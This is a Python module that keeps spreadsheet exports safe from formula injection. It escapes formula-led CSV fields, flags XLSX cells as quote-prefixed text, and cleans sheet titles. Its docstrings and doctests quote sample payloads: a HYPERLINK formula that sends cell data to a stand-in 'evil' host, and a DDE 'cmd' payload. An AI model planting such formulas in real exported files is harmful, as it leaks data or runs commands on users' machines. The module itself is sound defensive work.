"""Spreadsheet cells that stay data: the one guard every CSV and XLSX export of docpipe writes through.

Contract text, document names and questions come from whoever uploaded or typed them. A spreadsheet takes a
cell whose text starts with ``=``, ``+``, ``-`` or ``@`` for a formula (``=HYPERLINK("https://evil/?"&A1)``
sends a colleague's cells away when clicked; DDE formulas ran commands in older Excel), so no exported cell may
start like one (OWASP "CSV Injection", CWE-1236). The rule, in `formula_led`: a value is formula-led when its
first character is ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed, or the first character
after its leading whitespace (spaces, no-break spaces, ideographic spaces) is one of ``=+-@`` or a full-width
form of them (``＝＋－＠``, which an input method may turn into the ASCII sign).

- CSV (`csv_text`): every field, the header line included, is `cell_text`: formula-led text gets a leading
  apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as text and hide or keep as a visible mark; line
  breaks inside a field become line feeds, which the writer always quotes, so no field ends a row early.
- XLSX (`append_row`): every cell, header rows included, on every sheet, is a string cell (never a formula,
  a number or an error value such as ``#REF!``); formula-led text keeps its own characters and gets Excel's
  quote-prefix flag, the mark Excel itself stores for typed ``'=...``, so editing the cell keeps it text.
  `append_typed_row` writes the same way, but for the values a typed grid cell holds: a bool, an int, a finite
  float or a `datetime.date` becomes an Excel boolean, number or date. Those come from a normalized value, are
  never text, and cannot hold a formula; every string of the row still goes through the guard.
- Sheet titles (`sheet_title`): no ``[]:*?/\\``, not led or ended by an apostrophe, never formula-led, at
  most 31 characters.

Both formats lose the characters XML 1.0 cannot hold (NUL and the other C0 controls but tab, line feed and
carriage return; U+FFFE, U+FFFF; lone surrogates) before the rule is applied, so ``"\\x00=cmd"`` is caught.
What the guard cannot see: a CSV opened with another separator than the comma (Excel in a locale whose list
separator is ``;`` splits ``a;=1+1`` into two cells); the XLSX export has no such ambiguity.
Imports nothing from docpipe.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from typing import Any

__all__ = [
    "MAX_TITLE_CHARS",
    "append_row",
    "append_typed_row",
    "cell_text",
    "csv_text",
    "formula_led",
    "sheet_title",
    "xml_text",
]

# Characters that lead a formula, or that a spreadsheet strips before looking for one.
_LEADS = frozenset("=+-@\t\r\n")
# Looked for after leading whitespace; the full-width forms are what an IME types for the ASCII signs.
_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# What XML 1.0 cannot hold (openpyxl refuses the C0 controls; the others break the saved file).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
MAX_TITLE_CHARS = 31


def xml_text(value: Any) -> str:
    """Returns `value` as text (None as ""), without the characters XML 1.0 cannot hold."""
    return _NOT_XML.sub("", "" if value is None else str(value))


def formula_led(text: str) -> bool:
    """Returns whether a spreadsheet could read `text` as a formula (see the module docstring).

    >>> formula_led("=1+1"), formula_led("  @SUM(A1)"), formula_led("\\t-2"), formula_led("Yes - p. 3")
    (True, True, True, False)
    """
    return text[:1] in _LEADS or text.lstrip()[:1] in _SIGNS


def cell_text(value: Any) -> str:
    """Returns `value` for a CSV field: XML-clean text whose line breaks are line feeds, with an apostrophe in
    front when it is formula-led.

    >>> cell_text("=HYPERLINK(\\"https://x\\")"), cell_text(None), cell_text(3), cell_text("a\\r\\nb\\rc")
    ('\\'=HYPERLINK("https://x")', '', '3', 'a\\nb\\nc')
    """
    # The csv module quotes a field only for the characters of its own line terminator: with "\n", a bare
    # "\r" went out unquoted and a spreadsheet started a new row (and a new, unguarded cell) at it.
    text = xml_text(value).replace("\r\n", "\n").replace("\r", "\n")
    return "'" + text if formula_led(text) else text


def csv_text(
    header: Sequence[str],
    rows: Iterable[Sequence[Any] | Mapping[str, Any]],
    *,
    lineterminator: str = "\r\n",
) -> str:
    """Returns CSV text of a header line and `rows` (sequences, or mappings keyed by the header: a missing key
    is empty), every field of both through `cell_text`: the one way docpipe writes CSV."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([cell_text(name) for name in header])
    for row in rows:
        values = [row.get(name, "") for name in header] if isinstance(row, Mapping) else row
        writer.writerow([cell_text(value) for value in values])
    return out.getvalue()


def append_row(sheet: Any, values: Iterable[Any]) -> int:
    """Appends `values` to the openpyxl worksheet `sheet` as string cells (never a formula, number or error
    value), formula-led ones flagged quote-prefixed; returns the row's number."""
    return _append(sheet, [xml_text(value) for value in values])


def append_typed_row(sheet: Any, values: Iterable[Any]) -> int:
    """Appends `values` to `sheet` as `append_row` does, except that a bool, an int, a finite float and a
    `datetime.date` (not a datetime) stay Excel booleans, numbers and dates; returns the row's number. The caller
    sets a typed cell's number format."""
    return _append(sheet, [value if _excel_typed(value) else xml_text(value) for value in values])


def _excel_typed(value: Any) -> bool:
    # What an Excel number cannot hold exactly (NaN, infinities, integers past 2**53) is written as text.
    if isinstance(value, float):
        return math.isfinite(value)
    if isinstance(value, int):  # bool included
        return abs(value) < 2**53
    return isinstance(value, date) and not isinstance(value, datetime)


def _append(sheet: Any, values: list[Any]) -> int:
    sheet.append(values)
    number: int = sheet.max_row
    for cell, value in zip(sheet[number], values):
        if isinstance(value, str):
            # openpyxl types "=..." as a formula and "#REF!" as an error on assignment: the text is data.
            cell.data_type = "s"
            if formula_led(value):
                cell.quotePrefix = True
    return number


def sheet_title(name: str) -> str:
    """Returns `name` as a sheet title Excel accepts: ``[]:*?/\\`` replaced by ``_``, no apostrophe at either
    end, never formula-led, at most 31 characters ("Sheet" when nothing is left).

    >>> sheet_title("=cmd|' /C calc'!A0"), sheet_title("Q3: [draft]")
    ("_cmd|' _C calc'!A0", 'Q3_ _draft_')
    """
    title = _TITLE_FORBIDDEN.sub("_", xml_text(name)).strip().strip("'")
    if formula_led(title):
        title = "_" + title[1:]  # strip() left the sign first
    return title[:MAX_TITLE_CHARS].rstrip("'") or "Sheet"
